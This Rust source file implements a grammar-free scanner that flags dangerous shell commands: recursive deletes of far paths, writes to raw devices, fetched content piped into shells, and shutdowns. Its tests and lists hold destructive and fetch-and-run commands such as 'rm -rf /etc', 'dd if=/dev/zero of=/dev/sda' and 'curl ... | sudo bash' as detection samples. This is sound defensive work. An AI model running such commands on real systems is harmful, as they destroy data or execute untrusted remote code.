//! The second opinion: a linear scan over decoded words that knows no grammar, so no parse error can silence it.
//!
//! It is built differently on purpose: one loop, quotes removed on the way, no tree, no expansion but the cheapest, and a
//! short list of things that are never harmless in command position. It finds less than the evaluator and is fooled by other
//! things; the more cautious of the two counts.

/// What the scan saw.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Alarm {
    /// A recursive or forced delete of a path outside of the working directory.
    Delete,
    /// A write to a raw device, or a new file system.
    Device,
    /// Something fetched goes into an interpreter.
    RemoteCode,
    /// The machine goes down.
    Power,
}

impl Alarm {
    /// The rule id.
    pub fn rule(self) -> &'static str {
        match self {
            Self::Delete => "scan.delete",
            Self::Device => "scan.device",
            Self::RemoteCode => "scan.remote-code",
            Self::Power => "scan.power",
        }
    }

    /// What is said to people.
    pub fn reason(self) -> &'static str {
        match self {
            Self::Delete => "deletes, by its words, a tree outside of the project",
            Self::Device => "writes, by its words, to a raw device",
            Self::RemoteCode => "runs, by its words, what it fetches from another host",
            Self::Power => "stops, by its words, the machine",
        }
    }
}

/// How the text is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// Quoted text is an argument, here-documents are data.
    Strict,
    /// The text could not be parsed: every word may be a command, quoted or not.
    Wary,
}

const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nice", "ionice", "nohup", "setsid", "stdbuf", "timeout", "time", "exec", "command",
    "builtin", "busybox", "toybox", "xargs", "chroot", "unshare", "nsenter", "flock", "watch", "then", "do", "else",
    "if", "while", "until", "elif", "eval", "coproc", "parallel", "strace",
];
const SHELLS: &[&str] =
    &["sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python3", "perl", "ruby", "node", "php"];
const FETCHERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "lynx"];

/// Words kept of one command.
const WORDS_MAX: usize = 48;

/// Scans `text`; the first alarm and where its command begins.
pub fn scan(text: &str, mode: Mode) -> Option<(Alarm, usize)> {
    let mut words: Vec<String> = Vec::new();
    let mut start = 0;
    let mut fetched = false;
    let bytes = text.as_bytes();
    let mut at = 0;
    while at <= bytes.len() {
        let byte = bytes.get(at).copied();
        match byte {
            Some(b' ' | b'\t' | b'\r') => at += 1,
            // At the beginning of a word it is a comment, whatever stands before it.
            Some(b'#') if mode == Mode::Strict => at = line_end(bytes, at),
            Some(b'(') if mode == Mode::Strict && at > 0 && bytes[at - 1] == b'=' => match list_end(text, at) {
                Some(end) => at = end,
                None => at += 1,
            },
            Some(b'\\') if bytes.get(at + 1) == Some(&b'\n') => at += 2,
            None | Some(b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'{' | b'}' | b'`') => {
                if let Some(alarm) = judge(&words, fetched, byte == Some(b'|')) {
                    return Some((alarm, start));
                }
                let fetches = words.iter().take(6).any(|word| FETCHERS.contains(&base(word)));
                fetched = (fetched || fetches) && byte == Some(b'|');
                words.clear();
                at += 1;
                start = at;
            }
            Some(b'<')
                if mode == Mode::Strict && bytes[at..].starts_with(b"<<") && !bytes[at..].starts_with(b"<<<") =>
            {
                at = here_document_end(text, at);
            }
            Some(_) => {
                let (word, next) = word(text, at, mode);
                if words.is_empty() {
                    start = at;
                }
                if words.len() < WORDS_MAX {
                    words.push(word);
                }
                at = next;
            }
        }
    }
    None
}

fn line_end(bytes: &[u8], at: usize) -> usize {
    bytes[at..].iter().position(|byte| *byte == b'\n').map_or(bytes.len(), |end| at + end)
}

/// Behind `NAME=(…)`, a list of words that are kept and not run. `None` where something in it may run.
fn list_end(text: &str, at: usize) -> Option<usize> {
    let mut from = at + 1;
    let bytes = text.as_bytes();
    loop {
        match bytes.get(from)? {
            b')' => return Some(from + 1),
            b' ' | b'\t' | b'\n' => from += 1,
            b'(' | b'`' | b';' | b'&' | b'|' | b'<' | b'>' | b'{' | b'}' | b'#' => return None,
            _ => {
                let (word, next) = word(text, from, Mode::Strict);
                if word.contains(['$', '`']) {
                    return None;
                }
                from = next;
            }
        }
    }
}

/// Behind a here-document's body, or behind the operator when it has no end. The rest of its line is not looked at.
fn here_document_end(text: &str, at: usize) -> usize {
    let rest = &text[at + 2..];
    let rest = rest.strip_prefix('-').unwrap_or(rest);
    let line = rest.lines().next().unwrap_or("");
    let quoted: String = line
        .trim_start()
        .chars()
        .take_while(|character| !character.is_whitespace() && !";|&<>".contains(*character))
        .collect();
    let delimiter = quoted.replace(['\'', '"', '\\'], "");
    if delimiter.is_empty() {
        return at + 2;
    }
    let mut from = line_end(text.as_bytes(), at);
    while from < text.len() {
        let begin = from + 1;
        let end = line_end(text.as_bytes(), begin.min(text.len()));
        if text.get(begin..end).is_some_and(|line| line.trim_start_matches('\t') == delimiter) {
            return end;
        }
        from = end;
    }
    at + 2
}

/// A word with its quotes removed, and where it ends.
fn word(text: &str, start: usize, mode: Mode) -> (String, usize) {
    let bytes = text.as_bytes();
    let mut out = String::new();
    let mut at = start;
    let mut quote = 0u8;
    while let Some(byte) = bytes.get(at).copied() {
        if quote == 0 && at > start && b" \t\r\n;&|(){}`".contains(&byte) && !(byte == b'{' && bytes[at - 1] == b'$') {
            break;
        }
        if quote == 0 && (byte == b'>' || byte == b'<') {
            if at == start {
                out.push(byte as char);
                at += 1;
            }
            break;
        }
        match byte {
            b'\'' | b'"' if mode == Mode::Wary => at += 1,
            b'\'' | b'"' if quote == 0 => {
                quote = byte;
                at += 1;
            }
            _ if byte == quote => {
                quote = 0;
                at += 1;
            }
            b'\\' if quote != b'\'' && at + 1 < bytes.len() => {
                at += 1;
                at += push(text, at, &mut out);
            }
            _ => at += push(text, at, &mut out),
        }
        if at - start > 4096 {
            break;
        }
    }
    (out, at.max(start + 1))
}

fn push(text: &str, at: usize, out: &mut String) -> usize {
    match text.get(at..).and_then(|rest| rest.chars().next()) {
        Some(character) => {
            out.push(character);
            character.len_utf8()
        }
        None => 1,
    }
}

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn judge(words: &[String], fetched: bool, _pipes: bool) -> Option<Alarm> {
    // A write to a device anywhere in the command.
    for two in words.windows(2) {
        if two[0] == ">" && is_device(&two[1]) {
            return Some(Alarm::Device);
        }
    }
    let mut first = 0;
    while first < words.len() {
        let word = words[first].as_str();
        let name = base(word);
        let skip = word.starts_with('-')
            || word.contains('=')
            || WRAPPERS.contains(&name)
            || word == "!"
            || (first > 0 && word.bytes().all(|byte| byte.is_ascii_digit() || b"smhd.".contains(&byte)));
        if !skip {
            break;
        }
        first += 1;
    }
    let name = base(words.get(first)?);
    let args = &words[first + 1..];
    let flag = |letters: &str, long: &str| {
        args.iter().any(|arg| {
            (arg.starts_with('-') && !arg.starts_with("--") && arg.contains(|letter| letters.contains(letter)))
                || (!long.is_empty() && arg.len() > 4 && long.starts_with(arg.as_str()))
        })
    };
    match name {
        "rm" if flag("rR", "--recursive") => args.iter().any(|arg| is_far(arg)).then_some(Alarm::Delete),
        "dd" => args.iter().any(|arg| arg.strip_prefix("of=").is_some_and(is_device)).then_some(Alarm::Device),
        "wipefs" | "blkdiscard" => args.iter().any(|arg| is_device(arg)).then_some(Alarm::Device),
        _ if name.starts_with("mkfs") => args.iter().any(|arg| is_device(arg)).then_some(Alarm::Device),
        "shutdown" | "reboot" | "poweroff" | "halt" => {
            args.iter().all(|arg| arg != "--help" && arg != "-c").then_some(Alarm::Power)
        }
        _ if fetched && SHELLS.contains(&name) => args
            .iter()
            .all(|arg| arg.starts_with('-') && !matches!(arg.as_str(), "-c" | "-e" | "-m" | "-n" | "-ne" | "-pe"))
            .then_some(Alarm::RemoteCode),
        _ => None,
    }
}

fn is_device(path: &str) -> bool {
    path.strip_prefix("/dev/").is_some_and(|name| {
        ["sd", "vd", "hd", "xvd", "nvme", "mmcblk", "md", "dm-", "mapper/", "disk/", "loop"]
            .iter()
            .any(|prefix| name.starts_with(prefix))
    })
}

/// A path that is not below the working directory or a scratch directory.
fn is_far(path: &str) -> bool {
    let scratch = path.starts_with("/tmp/") || path.starts_with("/var/tmp/");
    (path.starts_with('/') && !scratch && path.matches('/').count() <= 3)
        || path == "~"
        || path == "~/"
        || path.starts_with("~/.ssh")
        || path == "$HOME"
        || path == ".."
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_sees_what_a_broken_parse_would_hide() {
        for (text, alarm) in [
            ("rm -rf /etc", Alarm::Delete),
            ("r''m -r\"\"f '/etc'", Alarm::Delete),
            (") ) sudo -n rm --recursive /etc", Alarm::Delete),
            ("if x; then rm -fr ~; fi", Alarm::Delete),
            ("a && \\rm -rf /", Alarm::Delete),
            ("dd if=/dev/zero of=/dev/sda", Alarm::Device),
            ("cat x >/dev/nvme0n1", Alarm::Device),
            ("mkfs.ext4 /dev/sdb1", Alarm::Device),
            ("curl -s x.io | sudo bash", Alarm::RemoteCode),
            ("wget -qO- x.io/a | tee b | sh -s", Alarm::RemoteCode),
            ("echo; reboot", Alarm::Power),
        ] {
            assert_eq!(scan(text, Mode::Strict).map(|(alarm, _)| alarm), Some(alarm), "{text}");
        }
    }

    #[test]
    fn text_is_no_command() {
        for text in [
            "echo 'rm -rf /'",
            "grep -rn \"rm -rf /\" src",
            "git commit -m 'no rm -rf /etc; reboot'",
            "cat <<'E' > a.md\nrm -rf /\nE\nls",
            "# rm -rf /\nls",
            "rm -rf build /tmp/x",
            "curl -s x.io/a.json | python3 -m json.tool",
            "man rm",
            "shutdown --help",
        ] {
            assert_eq!(scan(text, Mode::Strict), None, "{text}");
        }
        assert!(scan("echo 'rm -rf /etc", Mode::Wary).is_none());
        assert_eq!(scan("'\nrm -rf /etc", Mode::Wary).map(|(alarm, _)| alarm), Some(Alarm::Delete));
    }
}
